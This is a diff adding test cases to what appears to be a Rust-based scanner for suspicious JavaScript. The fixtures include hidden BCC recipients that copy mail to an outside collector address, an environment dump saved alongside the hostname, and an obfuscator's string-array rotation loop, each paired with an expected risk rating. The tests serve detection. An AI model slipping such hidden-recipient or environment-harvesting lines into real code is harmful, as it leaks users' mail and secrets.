@@ -75,6 +75,11 @@ fn environment_dumps_are_rated_by_where_they_go() {
     );
     check("for (const key in process.env) { console.log(key); }", "low env-enumeration 1");
     check("const child = spawn(cmd, { env: { ...process.env, CI: '1' } });", "");
+    check("const child = spawn(cmd, { env: process.env });", "");
+    check(
+        "const result = { env: process.env, host: os.hostname() };\nsave(JSON.stringify(result));",
+        "medium env-enumeration 2",
+    );
 }
 
 #[test]
@@ -115,11 +120,25 @@ fn runtime_tampering() {
 }
 
 #[test]
+fn obfuscator_string_array_rotation_is_found_without_hex_names() {
+    check(
+        "(function(a,b){var c=a();while(!![]){try{if(parseInt(c[0])===b)break;else c['push'](c['shift']());}catch(e){c['push'](c['shift']());}}}(words,1));",
+        "high obfuscated-code 1",
+    );
+}
+
+#[test]
 fn mail_recipients() {
     check("transport.sendMail({ to: user.email, bcc: 'copy@collector.io' });", "high mail-hidden-recipient 1");
     check("transport.sendMail({ to: 'ops@company.io' });", "medium mail-hard-coded-recipient 1");
     check("transport.sendMail({ to: 'someone@example.com', bcc: options.bcc });", "");
     check("const message = { bcc: process.env.BCC || 'fallback@collector.io' };", "high mail-hidden-recipient 1");
+    check("const copy = 'copy@collector.io';\ntransport.sendMail({ to, bcc: copy });", "high mail-hidden-recipient 2");
+    check("message.bcc = ['audit@collector.io'];\ntransport.sendMail(message);", "high mail-hidden-recipient 1");
+    check(
+        "sgMail.send({ personalizations: [{ to, bcc: [{ email: 'audit@collector.io' }] }] });",
+        "high mail-hidden-recipient 1",
+    );
     // An address outside mail-sending code is not a recipient.
     check("const config = { to: 'ops@company.io' };", "");
 }
